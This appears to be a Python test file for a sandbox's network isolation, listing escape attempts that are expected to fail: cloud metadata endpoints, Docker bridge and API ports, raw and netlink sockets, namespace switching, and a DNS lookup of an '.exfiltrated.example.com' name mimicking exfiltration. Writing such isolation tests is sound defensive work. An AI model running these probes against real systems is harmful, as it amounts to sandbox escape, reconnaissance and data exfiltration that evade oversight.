"""The network, in all its forms."""

from escapes import attempt, everywhere, raw

ATTEMPTS = [
    attempt(
        "tcp to the internet",
        """
        got = {'%s:%d' % a: connected(socket.AF_INET, socket.SOCK_STREAM, a)
               for a in (('1.1.1.1', 443), ('8.8.8.8', 53), ('151.101.0.223', 80))}
        """,
        everywhere("ENETUNREACH"),
    ),
    attempt(
        "udp to the internet",
        """
        got = {'%s:%d' % a: connected(socket.AF_INET, socket.SOCK_DGRAM, a)
               for a in (('1.1.1.1', 53), ('8.8.8.8', 443), ('162.159.200.1', 123))}
        """,
        everywhere("ENETUNREACH"),
    ),
    attempt(
        "tcp over ipv6",
        """
        got = {a: connected(socket.AF_INET6, socket.SOCK_STREAM, (a, 443))
               for a in ('2606:4700:4700::1111', 'fd00::1', '::ffff:1.1.1.1', '64:ff9b::101:101')}
        """,
        everywhere("ENETUNREACH"),
    ),
    attempt(
        "udp over ipv6",
        """
        got = {a: connected(socket.AF_INET6, socket.SOCK_DGRAM, (a, 53))
               for a in ('2001:4860:4860::8888', 'fd00::1', '2001:db8::1', '::ffff:8.8.8.8')}
        """,
        everywhere("ENETUNREACH"),
    ),
    attempt(
        "the engine's bridge and its neighbours",
        """
        got = {'%s:%d' % (a, p): connected(socket.AF_INET, socket.SOCK_STREAM, (a, p))
               for a in ('172.17.0.1', '172.17.0.2', '172.18.0.1', '10.88.0.1', '192.168.65.2')
               for p in (22, 80, 2375, 2376)}
        """,
        everywhere("ENETUNREACH"),
    ),
    attempt(
        "the metadata service",
        """
        got = {a: connected(socket.AF_INET6 if ':' in a else socket.AF_INET,
                            socket.SOCK_STREAM, (a, 80))
               for a in ('169.254.169.254', '169.254.170.2', '100.100.100.200', '168.63.129.16',
                         'fd00:ec2::254')}
        """,
        everywhere("ENETUNREACH"),
    ),
    attempt(
        "services on the usual ports of localhost",
        """
        got = {port: connected(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', port))
               for port in (22, 53, 80, 111, 443, 631, 2375, 2376, 3306, 5432, 6379, 8080, 10250)}
        """,
        everywhere("ECONNREFUSED"),
    ),
    attempt(
        "the engine's own resolver",
        """
        query = b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7example\\3com\\0\\0\\1\\0\\1'
        def ask():
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.settimeout(3)
                s.connect(('127.0.0.11', 53))
                s.send(query)
                s.recv(512)
        got = attempt(ask)
        """,
        "ECONNREFUSED",
    ),
    attempt(
        "dns, by the c library",
        """
        got = {}
        for name in ('example.com', 'host.docker.internal', 'metadata.google.internal', 'db',
                     'x' * 40 + '.exfiltrated.example.com'):
            try:
                got[name] = repr(socket.getaddrinfo(name, 80))
            except socket.gaierror as e:
                got[name] = e.errno
        """,
        everywhere(-2),  # EAI_NONAME
    ),
    attempt(
        "dns, asked by hand",
        """
        def ask(kind):
            query = struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + b'\\7example\\3com\\0'
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.settimeout(3)
                s.sendto(query + struct.pack('>2H', kind, 1), ('127.0.0.1', 53))
                reply = s.recv(512)
            return [reply[3] & 15, struct.unpack_from('>H', reply, 6)[0]]
        got = {kind: ask(kind) for kind in (1, 2, 5, 15, 16, 28, 255)}
        """,
        # NXDOMAIN, no records
        lambda got: len(got) == 7 and all(answer == [3, 0] for answer in got.values()),
    ),
    attempt(
        "broadcast",
        """
        def send():
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                s.sendto(b'x', ('255.255.255.255', 67))
        got = attempt(send)
        """,
        "ENETUNREACH",
    ),
    attempt(
        "multicast",
        """
        def join(group):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                             socket.inet_aton(group) + bytes(4))
        got = [attempt(join, '224.0.0.251'), attempt(join, '239.255.255.250'),
               connected(socket.AF_INET, socket.SOCK_DGRAM, ('224.0.0.251', 5353)),
               connected(socket.AF_INET6, socket.SOCK_DGRAM, ('ff05::1', 5353))]
        """,
        ["ENODEV", "ENODEV", "ENETUNREACH", "ENETUNREACH"],
    ),
    attempt(
        "raw ip sockets",
        """
        got = {p: attempt(lambda: socket.socket(f, socket.SOCK_RAW, p).close())
               for f, p in ((socket.AF_INET, 1), (socket.AF_INET, 6), (socket.AF_INET, 17),
                            (socket.AF_INET, 255), (socket.AF_INET6, 58))}
        """,
        everywhere("EPERM"),
    ),
    attempt(
        "ping sockets",
        """
        got = [connected(socket.AF_INET, socket.SOCK_DGRAM, ('1.1.1.1', 0), 1),
               connected(socket.AF_INET6, socket.SOCK_DGRAM, ('2606:4700:4700::1111', 0), 58)]
        """,
        # Whether they open is the engine's setting.
        lambda got: len(got) == 2 and set(got) <= {"EACCES", "ENETUNREACH"},
    ),
    attempt(
        "packet sockets",
        """
        got = {kind: attempt(lambda: socket.socket(17, kind, socket.htons(3)).close())
               for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM, 10)}
        """,
        everywhere("EPERM"),
    ),
    attempt(
        "netlink",
        """
        got = {p: attempt(lambda: socket.socket(16, socket.SOCK_RAW, p).close())
               for p in range(23)}
        """,
        everywhere("EPERM"),
    ),
    attempt(
        "vsock",
        """
        got = {cid: connected(40, socket.SOCK_STREAM, (cid, 1024)) for cid in (0, 1, 2, 3)}
        """,
        everywhere("EPERM"),
    ),
    attempt(
        "bluetooth",
        """
        got = {p: attempt(lambda: socket.socket(31, socket.SOCK_RAW, p).close()) for p in range(8)}
        """,
        everywhere("EPERM"),
    ),
    attempt(
        "the kernel's cryptography",
        """
        got = attempt(lambda: socket.socket(38, socket.SOCK_SEQPACKET).bind(('hash', 'sha1')))
        """,
        "EPERM",
    ),
    attempt(
        "kcm",
        """
        got = [attempt(lambda: socket.socket(41, socket.SOCK_DGRAM).close()),
               attempt(lambda: socket.socket(41, socket.SOCK_SEQPACKET).close())]
        """,
        ["EPERM", "EPERM"],
    ),
    attempt(
        "every other family of sockets",
        """
        got = [f for f in range(64)
               if {call(198 if ARM else 41, f, kind, 0) for kind in (1, 2, 3, 5)} != {'EPERM'}]
        """,
        [1, 2, 10],
    ),
    attempt(
        "pairs of sockets of every other family",
        """
        pair = (ctypes.c_int * 2)()
        got = {f: call(199 if ARM else 53, f, k, 0, pair)
               for f in range(64) if f != socket.AF_UNIX for k in (1, 2, 5)}
        """,
        everywhere("EPERM"),
    ),
    attempt(
        "relatives of tcp and udp",
        """
        got = [connected(socket.AF_INET, kind, ('1.1.1.1', 443), p)
               for p, kind in ((262, 1), (132, 1), (132, 5), (33, 6), (136, 2), (115, 2))]
        """,
        # Which of them there are is the kernel's choice.
        lambda got: set(got) <= {"ENETUNREACH", "EPROTONOSUPPORT", "ESOCKTNOSUPPORT"},
    ),
    attempt(
        "interfaces by ioctl",
        """
        import fcntl
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        address = struct.pack('16sHH4s8x', b'lo', 2, 0, socket.inet_aton('10.1.2.3'))
        flags = struct.pack('16sh14x', b'lo', 0)
        got = {name: attempt(fcntl.ioctl, s, number, data) for name, number, data in (
            ('SIOCSIFADDR', 0x8916, address), ('SIOCSIFFLAGS', 0x8914, flags),
            ('SIOCSIFMTU', 0x8922, flags), ('SIOCSIFNAME', 0x8923, flags),
            ('SIOCSIFHWADDR', 0x8924, flags), ('SIOCBRADDBR', 0x89a0, address),
            ('SIOCSIFDSTADDR', 0x8918, address), ('SIOCETHTOOL', 0x8946, address))}
        got['SIOCETHTOOL'] = got['SIOCETHTOOL'] and 'EPERM'
        """,
        everywhere("EPERM"),
    ),
    attempt(
        "routes by ioctl",
        """
        import fcntl
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        host = struct.pack('HH4s8x', 2, 0, bytes(4))
        route = bytes(8) + host * 3 + struct.pack('H62x', 3)
        arp = host + bytes(16) + bytes(36)
        got = {'SIOCADDRT': attempt(fcntl.ioctl, s, 0x890b, route),
               'SIOCDELRT': attempt(fcntl.ioctl, s, 0x890c, route),
               'SIOCSARP': attempt(fcntl.ioctl, s, 0x8955, arp)}
        """,
        everywhere("EPERM"),
    ),
    attempt(
        "interfaces that there are",
        """
        import fcntl
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        names = {}
        for index in range(1, 200):
            try:
                name = fcntl.ioctl(s, 0x8910, struct.pack('16si20x', b'', index))[:16]
                names[name.rstrip(b'\\0').decode()] = index
            except OSError:
                pass
        got = [list(names), read('/proc/net/route').splitlines()[1:], os.listdir('/sys/class/net')]
        """,
        lambda got: got in ([["lo"], [], ["lo"]], [["lo"], [], []]),
    ),
    attempt(
        "privileged socket options",
        """
        s = socket.socket()
        got = {name: attempt(s.setsockopt, level, number, value) for name, level, number, value in (
            ('SO_MARK', 1, 36, 1), ('SO_RCVBUFFORCE', 1, 33, 1 << 30),
            ('SO_SNDBUFFORCE', 1, 32, 1 << 30), ('IP_TRANSPARENT', 0, 19, 1),
            ('TCP_REPAIR', 6, 19, 1), ('SO_PRIORITY', 1, 12, 7),
            ('IPT_SO_SET_REPLACE', 0, 64, bytes(96)), ('ARPT_SO_SET_REPLACE', 0, 96, bytes(96)))}
        """,
        lambda got: all(
            answer == "EPERM" or "_REPLACE" in name and answer == "ENOPROTOOPT"
            for name, answer in got.items()
        ),
    ),
    raw(
        "other network namespaces",
        [
            ("setns to a pid", 308, 268, "os.open('/proc/self/ns/net', os.O_RDONLY), 0x40000000"),
            ("setns to any", 308, 268, "os.open('/proc/self/ns/net', os.O_RDONLY), 0"),
            ("unshare", 272, 97, "0x40000000"),
        ],
    ),
    attempt(
        "the network namespace of another process",
        """
        got = {name: opened('/proc/1/ns/' + name, os.O_RDONLY)
               for name in ('net', 'mnt', 'pid', 'user', 'uts', 'ipc', 'cgroup')}
        """,
        everywhere("EACCES"),
    ),
    attempt(
        "a proxy from the environment",
        """
        import urllib.request
        got = [urllib.request.getproxies(), [n for n in os.environ if 'proxy' in n.lower()]]
        """,
        [{}, []],
    ),
]
